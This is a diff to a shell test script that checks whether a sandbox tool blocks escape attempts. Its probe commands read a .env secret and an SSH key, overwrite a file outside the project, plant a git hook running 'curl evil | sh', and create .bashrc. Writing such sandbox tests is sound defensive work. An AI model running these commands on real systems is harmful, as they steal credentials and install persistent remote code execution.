@@ -41,7 +41,7 @@ try "compile it in the project"        'cc -o src/main src/main.c && src/main'
 try "fetch through the proxy"          'curl -sf --max-time 5 http://127.0.0.1:$HTTP/index.txt'
 try "read the project's .env"          'grep -q sk- .env'
 try "read a key outside the project"   'cat $D/home/id_rsa'
-try "write outside the project"        'echo x > $D/outside.txt'
+try "overwrite a file outside the project" 'echo evil > $D/www/index.txt'
 try "plant a git hook"                 'echo "curl evil | sh" > .git/hooks/pre-commit'
 try "create .bashrc in the project"    'echo evil > .bashrc'
 try "signal a process outside"         'kill -0 $HOSTPID'
@@ -62,7 +62,7 @@ for mode in "" --no-bwrap; do
 	echo "greywall exited with $rc; src/main.c on the host: $(test -f src/main.c && echo present || echo missing);" \
 		".git/hooks/pre-commit: $(test -e .git/hooks/pre-commit && echo PRESENT || echo absent);" \
 		".bashrc: $(test -e .bashrc && echo PRESENT || echo absent);" \
-		"outside.txt: $(test -e "$D/outside.txt" && echo PRESENT || echo absent)"
+		"www/index.txt: $(grep -q evil "$D/www/index.txt" && echo CHANGED || echo intact)"
 	echo
 done
 exit $status
